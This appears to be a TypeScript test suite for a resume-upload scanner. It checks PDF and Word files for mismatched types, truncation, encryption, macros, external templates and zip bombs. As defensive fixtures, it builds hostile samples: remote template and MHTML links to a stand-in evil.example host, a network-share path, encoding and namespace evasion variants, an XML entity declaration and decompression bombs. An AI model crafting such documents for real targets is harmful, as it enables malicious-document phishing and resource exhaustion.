import { randomBytes } from 'node:crypto';
import { crc32, deflateRawSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { resumeFixture } from '../../../tests/bed/posted-form.ts';
import { processorMs } from '../../../tests/bed/process-figures.ts';
import { inspectResume } from './inspect-resume.ts';

const fixture = (name: string) => resumeFixture(name).bytes;
const pdf = fixture('written.pdf');
const latin = (text: string) => Buffer.from(text, 'latin1');
const macroStorage = Buffer.from('_VBA_PROJECT\0', 'utf16le');
const contentTypes = '[Content_Types].xml';
const typesWith = (...types: string[]) =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">${types.map((type) => `<Override PartName="/a.xml" ContentType="${type}"/>`).join('')}</Types>`;
const documentType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const types = { name: contentTypes, content: typesWith(documentType) };
const officeType = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relations = (content: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${content}</Relationships>`;
const relation = (type: string, target: string, mode = 'External') =>
  relations(`<Relationship Id="r" Type="${officeType}/${type}" Target="${target}" TargetMode="${mode}"/>`);
const evilTemplate = relation('attachedTemplate', 'https://evil.example/t.dotm');

test.each(['written.pdf', 'printed.pdf', 'packed.pdf', 'locked.pdf', 'written.docx', 'written.doc'])(
  '%s of a real program passes',
  async (name) => expect(await inspectResume(name, fixture(name))).toBeNull(),
);

test.each([
  ['a.pdf', 'written.docx'],
  ['a.docx', 'written.pdf'],
  ['a.docx', 'written.doc'],
  ['a.docx', 'sheet.xlsx'],
  ['a.doc', 'written.docx'],
  ['a.doc', 'sheet.xls'],
])('%s with the content of %s is a mismatch', async (name, content) =>
  expect(await inspectResume(name, fixture(content))).toBe('resume_mismatch'),
);

test.each(['written.pdf', 'printed.pdf', 'packed.pdf', 'written.docx'])(
  '%s is damaged when it was cut short',
  async (name) => {
    const whole = fixture(name);
    for (const part of [0.1, 0.4, 0.6, 0.9]) {
      const cut = whole.subarray(0, Math.floor(whole.length * part));
      expect(await inspectResume(name, cut)).toBe('resume_damaged');
    }
  },
);

const outside = zipOf({ name: 'a', content: 'x' });
outside.writeUInt32LE(0xfffffff0, outside.length - 22 - 47 + 42);

test.each<[string, string, Buffer, string | null]>([
  ['a.docx', 'a password', fixture('locked.docx'), 'resume_encrypted'],
  ['a.docx', 'an encrypted part', zipOf({ name: 'a.xml', content: 'x', flags: 1 }), 'resume_encrypted'],
  ['a.docx', 'macros', fixture('macros.docx'), 'resume_macros'],
  ['a.doc', 'macros', Buffer.concat([fixture('written.doc'), macroStorage]), 'resume_macros'],
  ['a.docx', 'a part outside the file', outside, 'resume_damaged'],
  ['a.docx', 'a list of content types', zipOf(types), null],
  ['a.docx', 'two lists of content types', zipOf(types, types), 'resume_damaged'],
  ['a.docx', 'an empty list before it', zipOf({ ...types, content: typesWith() }, types), 'resume_damaged'],
  ['a.docx', 'no document', zipOf({ name: 'readme.txt', content: 'hello' }), 'resume_mismatch'],
  ['a.pdf', 'other bytes before its start', Buffer.concat([latin('MZ\u0090'), pdf]), 'resume_mismatch'],
  ['a.pdf', 'a line break before its start', Buffer.concat([latin('\r\n'), pdf]), null],
])('%s with %s is judged by what it is', async (name, _what, bytes, verdict) =>
  expect(await inspectResume(name, bytes)).toBe(verdict),
);

test.each([
  ['word/vbaProject.bin', 'x'],
  ['word/activeX/activeX1.xml', 'x'],
  [contentTypes, typesWith('application/vnd.ms-word.document.macroEnabled.main+xml')],
  [contentTypes, typesWith(documentType, 'application/vnd.ms-office.vba&#80;roject')],
  ['word/_rels/document.xml.rels', relation('vbaProject', 'harmless.bin', 'Internal')],
])('a .docx with %s (%#) is refused for its macros', async (name, content) =>
  expect(await inspectResume('a.docx', zipOf({ name, content }))).toBe('resume_macros'),
);

const settings = 'word/_rels/settings.xml.rels';
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
const prefixed = evilTemplate
  .replace('xmlns=', 'xmlns:p=')
  .replaceAll('<Relationship', '<p:Relationship')
  .replace('</', '</p:');
const twoModes = evilTemplate
  .replace('Id="r"', 'xmlns:x="x:x" x:TargetMode="Internal" Id="r"')
  .replace('/>', ' x:Type="x"/>');
const html = 'mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html';
test.each<[string, string | Buffer, string?]>([
  ['a template', evilTemplate],
  ['single quotes', evilTemplate.replaceAll('"', "'")],
  ['a namespace prefix', prefixed],
  ['UTF-16BE', utf16(evilTemplate).swap16()],
  ['UTF-16LE', utf16(evilTemplate)],
  ['UTF-16BE without a mark', Buffer.from(evilTemplate, 'utf16le').swap16()],
  ['> inside an attribute', evilTemplate.replace('Id="r"', 'Id="r>"')],
  ['a file on a share', relation('attachedTemplate', 'file:///\\\\server\\share\\t.dotm')],
  ['settings under another name', evilTemplate, 'word/_rels/preferences.xml.rels'],
  ['an encoded part name', evilTemplate, 'word/_rels/settings.xml.re%6Cs'],
  ['an object from elsewhere', relation('oleObject', html), 'word/_rels/document.xml.rels'],
  ['a second mode in another namespace', twoModes],
  ['a web page inside', relation('aFChunk', 'a.mht', 'Internal'), 'word/_rels/document.xml.rels'],
  ['a type that only ends like a link', evilTemplate.replace(/Type="[^"]*/, 'Type="x/hyperlink')],
])('a .docx that loads from elsewhere by %s is refused', async (_, content, name = settings) =>
  expect(await inspectResume('a.docx', zipOf(types, { name, content }))).toBe('resume_external'),
);

const link = relation('hyperlink', 'https://menon.example/kiln');
const strict = link.replace(officeType, 'http://purl.oclc.org/ooxml/officeDocument/relationships');
test.each<[string, string | null, string | Buffer]>([
  ['a document type', 'resume_damaged', `<!DOCTYPE a [<!ENTITY e "External">]>${evilTemplate}`],
  ['an encoding of its own', 'resume_damaged', `<?xml version="1.0" encoding="IBM037"?>${relations('')}`],
  ['bytes that are no UTF-8', 'resume_damaged', latin(relations('\xff'))],
  ['an element without an end', 'resume_damaged', '<Relationships><Relationship>'],
  ['nothing', 'resume_damaged', ''],
  ['a link', null, link],
  ['a link of the strict format', null, strict],
  ['a picture inside', null, relation('image', 'media/a.png', 'Internal')],
])('a .docx whose relations have %s is judged %s', async (_, verdict, content) =>
  expect(await inspectResume('a.docx', zipOf(types, { name: settings, content }))).toBe(verdict),
);

const zeros = { name: 'word/document.xml', content: Buffer.alloc(1e6) };
const noise = (bytes: number) => ({ name: 'word/a.png', content: randomBytes(bytes) });
/** Parts that name relations: each is searched for templates from elsewhere. */
const lists = (count: number, bytes: number) =>
  Array.from({ length: count }, (_, index) => ({
    name: `word/${index}/_rels/settings.xml.rels`,
    content: relations(`<Relationship Id="${'r'.repeat(60)}"/>`.repeat((bytes - 120) / 80)),
  }));
test.each<[string, Buffer, string]>([
  ['64 MB, which it claims', zipOf(types, { ...noise(700_000), claimedBytes: 65 * 2 ** 20 }), 'resume_bomb'],
  ['a hundred times its own size', zipOf(types, zeros), 'resume_bomb'],
  ['the size of its contents, above its claim', zipOf({ ...zeros, claimedBytes: 1000 }), 'resume_damaged'],
  ['the size of its lists', zipOf(noise(10_000), ...lists(2, 252_000)), 'resume_bomb'],
  ['its number of parts', zipOf(...Array(1001).fill({ name: 'word/a.xml', content: 'x' })), 'resume_bomb'],
])('a .docx that unpacks to too much is refused by %s', async (_what, bytes, verdict) =>
  expect(await inspectResume('a.docx', bytes)).toBe(verdict),
);

test.each([
  ['a long list of relations', zipOf(...lists(1, 252_000))],
  ['a deep list', zipOf({ name: 'a.rels', content: `${'<a>'.repeat(36_000)}${'</a>'.repeat(36_000)}` })],
])('a .docx with %s is read within 3 s of processor time', async (_what, bytes) => {
  expect(await processorMs(() => inspectResume('a.docx', bytes))).toBeLessThan(3000);
});

test('no cut or mangled resume makes the inspection throw', async () => {
  for (const name of ['written.docx', 'written.doc', 'written.pdf'])
    for (let round = 0; round < 60; round++) {
      const mangled = Buffer.from(fixture(name));
      for (let hit = 0; hit < 20; hit++)
        mangled[(round * 7919 + hit * 104_729) % mangled.length] = round * hit;
      const verdict = await inspectResume(name, mangled.subarray(0, (round * 31_337) % mangled.length));
      expect(verdict ?? 'resume_fine').toMatch(/^resume_/);
    }
});

/** A file of an archive, which may claim another size than it has. */
interface ZipPart {
  readonly name: string;
  readonly content: Buffer | string;
  readonly claimedBytes?: number;
  /** General purpose bits; 1 says that it is encrypted. */
  readonly flags?: number;
}

/** An archive of deflated files, with the fields that a reader looks at. */
function zipOf(...parts: readonly ZipPart[]): Buffer {
  const files: Buffer[] = [];
  const directory: Buffer[] = [];
  let at = 0;
  for (const { name, content, claimedBytes = Buffer.byteLength(content), flags = 0 } of parts) {
    const packed = deflateRawSync(content);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc32(content), 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(claimedBytes, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(at, 42);
    files.push(local, Buffer.from(name, 'latin1'), packed);
    directory.push(central, Buffer.from(name, 'latin1'));
    at += local.length + name.length + packed.length;
  }
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(Buffer.concat(directory).length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...files, ...directory, end]);
}
